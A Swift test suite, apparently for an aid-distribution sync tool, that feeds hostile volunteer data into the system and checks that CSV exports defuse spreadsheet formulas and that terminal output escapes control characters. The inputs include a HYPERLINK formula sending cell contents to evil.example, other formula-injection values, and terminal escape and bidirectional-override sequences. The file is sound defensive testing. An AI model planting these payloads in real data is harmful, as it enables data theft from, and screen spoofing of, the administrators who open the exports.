import Foundation
import GRDB
import SyncCore
import Testing

/// A dishonest volunteer's data reaching the admin's tools: CSV cells a spreadsheet would run as formulas,
/// terminal escape sequences in names, and files (replicas, tokens) that others could read or that lead
/// elsewhere through a symbolic link.
@Suite("Hostile output", .serialized)
struct HostileOutputTests {
    /// Retitles the terminal (OSC … BEL), clears the screen (CSI 2J, then the 8-bit CSI), reverses the text.
    static let escapes = "Evil\u{1B}]0;owned\u{07}\u{1B}[2J\u{9B}31m\u{202E}lave"
    static let arabic = "عائلة الحدّاد"

    struct Setup {
        let directory: URL
        let server: ServerProcess
        let hubDB: String
        let deviceDB: String

        func field(_ arguments: [String], db: String? = nil) throws -> CommandResult {
            try run(Binaries.field, arguments + ["--db", db ?? deviceDB])
        }
    }

    /// A hub and a volunteer whose families and name are made to attack the admin's spreadsheet and
    /// terminal, synced to the hub.
    static func hostileHub() throws -> Setup {
        let directory = try temporaryDirectory()
        let hubDB = directory.appendingPathComponent("hub.db").path
        let token = try issueToken(db: hubDB, role: "device", city: "Tunis", name: "mallory", directory: directory)
        let server = try ServerProcess(database: hubDB)
        let setup = Setup(
            directory: directory, server: server, hubDB: hubDB,
            deviceDB: directory.appendingPathComponent("mallory.db").path)
        let enrolled = try setup.field([
            "init", "--server", server.url, "--token-file", token.file, "--volunteer=" + "=1+2",
        ])
        #expect(enrolled.status == 0, "\(enrolled.stderr)")
        let families: [[String]] = [
            [
                "--reference=TUN-1", "--head==HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "--phone=+216 98 123 456",
            ],
            ["--reference=TUN-2", "--head=@SUM(1+1)", "--phone=-2+3", "--notes=\tcmd", "--address=\rcmd", "--size=4"],
            ["--reference=TUN-3", "--head=" + escapes, "--phone=71 000 000", "--address=x\nforged line"],
            ["--reference=TUN-4", "--head=" + arabic, "--phone=71 111 111"],
            // The same family again (same name, same phone): the report and the entry check show its name.
            ["--reference=TUN-6", "--head=" + escapes, "--phone=71 000 000", "--force"],
            ["--reference=TUN-7", "--head=Sami", "--phone=-12", "--size=3"],
        ]
        for family in families {
            let added = try setup.field(["family", "add"] + family)
            #expect(added.status == 0, "\(family): \(added.stderr)")
        }
        let delivered = try setup.field(["deliver", "--family", "TUN-3", "--item", "food_pack", "--campaign", "w"])
        #expect(delivered.status == 0, "\(delivered.stderr)")
        let synced = try setup.field(["sync"])
        #expect(synced.status == 0, "\(synced.stderr)")
        return setup
    }

    /// The scalars a terminal acts on rather than shows: C0 controls but the line feed, DEL, C1 controls,
    /// and the bidirectional embeddings, overrides and isolates.
    static func rawControls(_ text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x0A: false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }.map { String(format: "U+%04X", $0.value) }
    }

    /// A CSV file read back by Python's csv module.
    static func readCSV(_ path: String) throws -> [[String: String]] {
        let reader = """
            import csv, json, sys
            with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
                print(json.dumps(list(csv.DictReader(f)), ensure_ascii=True))
            """
        let result = try run("/usr/bin/env", ["python3", "-c", reader, path])
        #expect(result.status == 0, "\(result.stderr)")
        return try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [[String: String]] ?? []
    }

    @Test func csvExportsNeutraliseFormulasUnlessAskedForRawValues() throws {
        let setup = try Self.hostileHub()
        defer {
            setup.server.stop()
            try? FileManager.default.removeItem(at: setup.directory)
        }
        let families = setup.directory.appendingPathComponent("families.csv").path
        let exported = try setup.field(["export", "families", "--csv", families], db: setup.hubDB)
        #expect(exported.status == 0, "\(exported.stderr)")
        let rows = Dictionary(try Self.readCSV(families).map { ($0["reference"] ?? "", $0) }) { a, _ in a }
        #expect(rows.count == 6)
        #expect(rows["TUN-1"]?["head_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        #expect(rows["TUN-1"]?["phone"] == "'+216 98 123 456")
        #expect(rows["TUN-2"]?["head_name"] == "'@SUM(1+1)")
        #expect(rows["TUN-2"]?["phone"] == "'-2+3")
        #expect(rows["TUN-2"]?["notes"] == "'\tcmd")
        #expect(rows["TUN-2"]?["address"] == "'\rcmd")
        // Plain numbers stay numbers, negative ones too.
        #expect(rows["TUN-7"]?["phone"] == "-12")
        #expect(rows["TUN-2"]?["household_size"] == "4")
        #expect(rows["TUN-4"]?["head_name"] == Self.arabic)
        let deliveries = setup.directory.appendingPathComponent("deliveries.csv").path
        #expect(try setup.field(["export", "deliveries", "--csv", deliveries], db: setup.hubDB).status == 0)
        let delivery = try #require(try Self.readCSV(deliveries).first)
        #expect(delivery["volunteer"] == "'=1+2" && delivery["quantity"] == "1")
        // --raw-csv: the values as they are, for scripts.
        let raw = setup.directory.appendingPathComponent("raw.csv").path
        let rawExport = try setup.field(["export", "families", "--csv", raw, "--raw-csv"], db: setup.hubDB)
        #expect(rawExport.status == 0, "\(rawExport.stderr)")
        let rawRows = Dictionary(try Self.readCSV(raw).map { ($0["reference"] ?? "", $0) }) { a, _ in a }
        #expect(rawRows["TUN-1"]?["head_name"] == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        #expect(rawRows["TUN-2"]?["phone"] == "-2+3")
        let help = try run(Binaries.field, ["export", "--help"])
        #expect(help.stdout.contains("--raw-csv"))
    }

    @Test func humanOutputShowsControlCharactersEscaped() throws {
        let setup = try Self.hostileHub()
        defer {
            setup.server.stop()
            try? FileManager.default.removeItem(at: setup.directory)
        }
        let outputs: [(String, CommandResult)] = [
            ("report", try setup.field(["report"], db: setup.hubDB)),
            ("family list", try setup.field(["family", "list"])),
            ("family show", try setup.field(["family", "show", "TUN-3"])),
            ("history", try setup.field(["history", "TUN-3"])),
            (
                "duplicate",
                try setup.field(["family", "add", "--reference=TUN-9", "--head=" + Self.escapes, "--phone=71 000 000"])
            ),
        ]
        for (label, result) in outputs {
            let text = result.stdout + result.stderr
            #expect(Self.rawControls(text).isEmpty, "\(label): \(Self.rawControls(text))")
            #expect(text.contains("Evil\\u{1B}]0;owned\\u{7}\\u{1B}[2J\\u{9B}31m\\u{202E}lave"), "\(label): \(text)")
            #expect(!text.split(separator: "\n").contains { $0.hasPrefix("forged line") }, "\(label)")
        }
        // Arabic names are shown as they are.
        #expect(outputs[1].1.stdout.contains(Self.arabic))
        // JSON: every control escaped by the encoder, the value intact once decoded.
        let json = try setup.field(["family", "list", "--json"])
        #expect(json.status == 0)
        #expect(Self.rawControls(json.stdout).isEmpty, "\(Self.rawControls(json.stdout))")
        let families = try #require(
            try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
        let heads = families.compactMap { $0["head_name"] as? String }
        #expect(heads.contains(Self.escapes) && heads.contains(Self.arabic))
    }
}
